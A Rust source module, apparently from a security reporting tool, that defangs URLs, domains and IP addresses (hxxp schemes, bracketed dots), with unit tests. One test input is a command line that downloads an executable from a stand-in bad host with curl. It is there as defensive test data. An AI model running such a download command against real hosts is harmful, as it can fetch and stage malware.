//! Defanging: addresses that no reader can follow by a slip of the finger (`hxxp://bad[.]example`).
//!
//! URLs are defanged wherever they stand, bare names and addresses only in fields that hold them. Hashes and paths stay as they
//! are, so that they can be copied. The JSON's model keeps every value as it was.

use std::borrow::Cow;

/// Fields of a row that hold network names or addresses.
const DETAILS: &[&str] = &["answers", "destination", "domain", "host", "ip", "query", "referrer", "source", "url"];
/// Values of a sentence that hold them, and values that hold them or something else.
const SAID: &[&str] = &["destination", "domain", "ip", "url"];
const PERHAPS_SAID: &[&str] = &["from", "target", "targets"];
/// Endings that make a dotted name a file's, not a host's.
const FILES: &[&str] = &["bat", "cmd", "com", "cpl", "dll", "exe", "hta", "js", "lnk", "msi", "ocx", "ps1", "scr", "sys", "tmp", "vbs"];

const SCHEMES: [(&str, &str); 6] = [
    ("http://", "hxxp://"),
    ("https://", "hxxps://"),
    ("ftp://", "fxp://"),
    ("ftps://", "fxps://"),
    ("ws://", "wsx://"),
    ("wss://", "wssx://"),
];

/// The value of a row's field, or of an indicator's kind, as it may be shown.
pub(crate) fn detail<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
    if DETAILS.contains(&name) { names(value) } else { urls(value) }
}

/// A sentence's value as it may be shown.
pub(crate) fn said<'a>(name: &str, value: &'a str) -> Cow<'a, str> {
    let network = SAID.contains(&name) || (PERHAPS_SAID.contains(&name) && value.split([',', ' ']).all(maybe_host));
    if network { names(value) } else { urls(value) }
}

/// Whether the word may be a host's name or address: not a path, and not a file's name.
fn maybe_host(word: &str) -> bool {
    let ending = word.rsplit('.').next().unwrap_or_default();
    !word.contains('\\') && !FILES.contains(&ending.to_ascii_lowercase().as_str())
}

/// Text of names and addresses, defanged whether or not they are URLs.
fn names(value: &str) -> Cow<'_, str> {
    if value.contains("://") {
        return urls(value);
    }
    let host_ends = value.find('/').unwrap_or(value.len());
    let (host, path) = value.split_at(host_ends);
    Cow::Owned(format!("{}{path}", apart(host)))
}

/// Every URL of the text defanged: the scheme, and the dots of the host.
fn urls(text: &str) -> Cow<'_, str> {
    if !text.contains("://") {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at + 3);
        shown.push_str(&scheme(before));
        let ends = after.find(|letter: char| letter.is_whitespace() || "/\\\"'<>()|,;?#".contains(letter)).unwrap_or(after.len());
        let (host, remaining) = after.split_at(ends);
        shown.push_str(&apart(host));
        rest = remaining;
    }
    shown.push_str(rest);
    Cow::Owned(shown)
}

/// Text that ends in `scheme://`, with the scheme made harmless where it is one that programs follow.
fn scheme(text: &str) -> Cow<'_, str> {
    let known = SCHEMES.iter().filter(|(scheme, _)| {
        let start = text.len().checked_sub(scheme.len());
        start.and_then(|start| text.get(start..)).is_some_and(|end| end.eq_ignore_ascii_case(scheme))
    });
    match known.max_by_key(|(scheme, _)| scheme.len()) {
        Some((scheme, harmless)) => {
            let kept = text.len().checked_sub(scheme.len()).and_then(|start| text.get(..start)).unwrap_or_default();
            Cow::Owned(format!("{kept}{harmless}"))
        }
        None => Cow::Borrowed(text),
    }
}

/// A host with its dots (of an IPv6 address, its colons) in brackets; what is in brackets already stays.
fn apart(host: &str) -> String {
    let six = host.matches(':').count() > 1 && host.chars().all(|letter| letter.is_ascii_hexdigit() || ":.[]%".contains(letter));
    if six {
        return host.replace(':', "[:]");
    }
    host.replace("[.]", ".").replace('.', "[.]")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(name: &str, value: &str, expected: &str) {
        assert_eq!(detail(name, value), expected);
    }

    #[test]
    fn network_fields_lose_their_teeth() {
        check("destination", "203.0.113.7:8443", "203[.]0[.]113[.]7:8443");
        check("domain", "cdn.update-check.example", "cdn[.]update-check[.]example");
        check("domain", "cdn[.]update-check.example", "cdn[.]update-check[.]example");
        check("ip", "2001:db8::7", "2001[:]db8[:][:]7");
        check("url", "https://bad.example/a.b?c=d.e", "hxxps://bad[.]example/a.b?c=d.e");
        check("url", "bad.example/a.exe", "bad[.]example/a.exe");
    }

    #[test]
    fn sentences_lose_their_teeth_where_they_name_hosts() {
        assert_eq!(said("target", "198.51.100.7"), "198[.]51[.]100[.]7");
        assert_eq!(said("targets", "a.example, b.example"), "a[.]example, b[.]example");
        assert_eq!(said("target", "svchost.exe"), "svchost.exe");
        assert_eq!(said("target", r"C:\a.b\c"), r"C:\a.b\c");
        assert_eq!(said("host", "pc-014.corp.example"), "pc-014.corp.example");
    }

    #[test]
    fn urls_lose_their_teeth_everywhere() {
        check("command_line", "curl -o x HTTP://Bad.example:8080/x.exe", "curl -o x hxxp://Bad[.]example:8080/x.exe");
        check("", "a http://b.c http://d.e", "a hxxp://b[.]c hxxp://d[.]e");
        check("", "日本http://例え.jp/道.html", "日本hxxp://例え[.]jp/道.html");
        check("", "wss://x.y ftp://z.w", "wssx://x[.]y fxp://z[.]w");
        check("", "://", "://");
    }

    #[test]
    fn hashes_and_paths_stay() {
        check("path", r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\cmd.exe");
        check("sha256", "e3b0c44298fc1c149afbf4c8996fb924", "e3b0c44298fc1c149afbf4c8996fb924");
        check("command_line", "ping 203.0.113.7", "ping 203.0.113.7");
    }
}
